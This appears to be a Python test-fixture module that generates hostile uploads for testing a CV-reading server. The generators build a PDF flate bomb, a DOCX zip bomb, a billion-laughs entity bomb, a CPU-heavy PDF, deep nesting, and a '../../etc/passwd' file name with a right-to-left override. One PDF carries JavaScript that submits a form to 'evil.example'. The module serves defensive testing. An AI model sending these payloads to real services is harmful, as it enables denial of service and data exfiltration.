"""Hostile and awkward uploads, generated in memory: the corpus the document-reading tests and
``bench/uploads.py`` send (nothing large is committed; each file is built here on demand).

``corpus()`` returns one ``Sample`` per case: the bytes, the file name a client would send, and what a
careful server does with it: ``"read"`` (the text comes back), ``"refused"`` (a 4xx naming the problem)
or ``"either"`` (a reader may manage it or refuse it, but must never fail, hang or balloon).
"""

from __future__ import annotations

import functools
import io
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

CV_LINES = ["Ada Lovelace", "ada@example.org", "Experience", "Analyst at the Analytical Engine Company, 1842-1843",
            "Wrote the first published algorithm for a computing machine.", "Skills: mathematics, Python, SQL"]


@dataclass(frozen=True)
class Sample:
    """One upload of the corpus: ``name`` says what it is; ``expect`` is "read", "refused" or "either"."""

    name: str
    filename: str
    data: bytes
    expect: str
    code: str | None = None  # the document error code expected when refused (None: any)


def text_pdf(lines: list[str], extra_catalog: str = "", extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """A small valid PDF with one page showing ``lines`` in Helvetica (ASCII text), built by hand.

    ``extra_catalog`` is added inside the catalog dictionary and ``extra_objects`` are appended as
    objects 6, 7, … (to add JavaScript actions or hostile structures to an otherwise normal file).
    """
    return _page_pdf(_text_operators(lines), extra_catalog=extra_catalog, extra_objects=extra_objects)


def _text_operators(lines: list[str]) -> bytes:
    escaped = (line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") for line in lines)
    return ("BT /F1 11 Tf 72 760 Td 14 TL " + " ".join(f"({line}) '" for line in escaped) + " ET").encode("latin-1")


def _page_pdf(content: bytes, *, deflated: bool = False, extra_catalog: str = "",
              extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF whose content stream is ``content`` (given already deflated when ``deflated``)."""
    stream_dict = b"<< /Length %d%s >>" % (len(content), b" /Filter /FlateDecode" if deflated else b"")
    return _assemble([
        f"<< /Type /Catalog /Pages 2 0 R {extra_catalog}>>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        stream_dict + b"\nstream\n" + content + b"\nendstream",
        *extra_objects,
    ])


def _assemble(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _deflated_zeros(mebibytes: int) -> bytes:
    """A zlib stream of ``mebibytes`` MiB of zero bytes, about 1 KiB per MiB, built in milliseconds: one
    MiB is deflated once and its segment repeated (after a full flush a segment needs nothing before it)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1024 * 1024)
    segment = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(mebibytes):
        checksum = zlib.adler32(block, checksum)
    return b"\x78\xda" + segment * mebibytes + packer.flush() + checksum.to_bytes(4, "big")


@functools.lru_cache(maxsize=1)
def pdf_flate_bomb() -> bytes:
    """A page whose content stream is 2 GiB of zeros deflated to ~2 MB: far more than the memory limit
    once inflated, and no text a reader could stop at."""
    return _page_pdf(_deflated_zeros(2048), deflated=True)


def pdf_slow_content(operations: int = 3_000_000) -> bytes:
    """A page of ``operations`` one-letter text operators, deflated to ~30 KB: about a second of CPU per
    100,000 operators in a text extractor, so far beyond any time limit (a "CPU bomb")."""
    return _page_pdf(zlib.compress(b"BT /F1 11 Tf 72 760 Td " + b"(a) Tj " * operations + b"ET", 9), deflated=True)


def pdf_deep_nesting(depth: int = 100_000) -> bytes:
    """A CV page whose content stream opens with an array nested ``depth`` levels deep (recursive
    parsers overflow), and whose annotations are another such array."""
    nested = b"[" * depth + b"]" * depth
    content = b"BT " + nested + b" TJ ET " + _text_operators(CV_LINES)
    return _page_pdf(content, extra_objects=(nested,)).replace(b"/Contents 5 0 R", b"/Contents 5 0 R /Annots 6 0 R")


def pdf_with_javascript() -> bytes:
    """A readable CV whose catalog runs JavaScript on opening (a reader must not run it, only read text)."""
    js = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\); this.submitForm\\('http://evil.example'\\);) >>"
    return text_pdf(CV_LINES, extra_catalog="/OpenAction 6 0 R ", extra_objects=(js,))


def pdf_encrypted() -> bytes:
    """A CV protected by a user password (the empty password does not open it)."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(CV_LINES))))
    writer.encrypt(user_password="secret-password", owner_password="owner-password", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _docx(document_xml: bytes, compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A minimal Word document (content types, relationships, the given ``word/document.xml``)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        archive.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>'))
        archive.writestr("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>'))
        archive.writestr("word/document.xml", document_xml)
    return out.getvalue()


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_text(lines: list[str]) -> bytes:
    """A minimal Word document with one paragraph per line."""
    body = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)
    return _docx(f'<?xml version="1.0" encoding="UTF-8"?><w:document {W_NS}><w:body>{body}</w:body></w:document>'
                 .encode())


@functools.lru_cache(maxsize=1)
def docx_zip_bomb() -> bytes:
    """A Word document whose one paragraph inflates to 256 MiB of spaces (about 250 KB compressed)."""
    out = io.BytesIO()
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document {W_NS}><w:body><w:p><w:r><w:t>'.encode()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(head)
            block = b" " * (1024 * 1024)
            for _ in range(256):
                member.write(block)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return out.getvalue()


def docx_billion_laughs() -> bytes:
    """A Word document whose XML defines ten nested entities of ten references each (10^9 "lol"s)."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    xml = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [{entities}]>'
           f'<w:document {W_NS}><w:body><w:p><w:r><w:t>Ada Lovelace &lol9;</w:t></w:r></w:p></w:body></w:document>')
    return _docx(xml.encode())


def executable_bytes() -> bytes:
    """The start of this machine's Python interpreter (an ELF executable), as a renamed upload would be."""
    with open(Path(sys.executable).resolve(), "rb") as fh:
        return fh.read(256 * 1024)


def corpus() -> list[Sample]:
    """Every case, smallest first except the bombs (built once per process)."""
    cv_pdf = text_pdf(CV_LINES)
    return [
        Sample("pdf_flate_bomb", "cv.pdf", pdf_flate_bomb(), "refused", "too_complex"),
        Sample("docx_zip_bomb", "cv.docx", docx_zip_bomb(), "refused", "zip_bomb"),
        Sample("docx_billion_laughs", "cv.docx", docx_billion_laughs(), "either"),
        Sample("pdf_slow_content", "cv.pdf", pdf_slow_content(), "refused", "too_slow"),
        Sample("pdf_deep_nesting", "cv.pdf", pdf_deep_nesting(), "either"),
        Sample("pdf_truncated", "cv.pdf", cv_pdf[: len(cv_pdf) // 2], "either"),
        Sample("pdf_corrupt", "cv.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 64, "refused"),
        Sample("pdf_encrypted", "cv.pdf", pdf_encrypted(), "refused", "encrypted_pdf"),
        Sample("pdf_javascript", "cv.pdf", pdf_with_javascript(), "read"),
        Sample("file_12mb", "cv.txt", b"Ada Lovelace, analyst. " * (12 * 1024 * 1024 // 23 + 1), "refused"),
        Sample("empty", "cv.pdf", b"", "refused", "empty_file"),
        Sample("executable_as_pdf", "cv.pdf", executable_bytes(), "refused", "unsupported_type"),
        Sample("hostile_file_name", "../../etc/passwd Jürgen 履歴書\u202egpj.exe.txt",
               "\n".join(CV_LINES).encode(), "read"),
        Sample("plain_pdf", "cv.pdf", cv_pdf, "read"),
        Sample("plain_docx", "cv.docx", docx_text(CV_LINES), "read"),
    ]
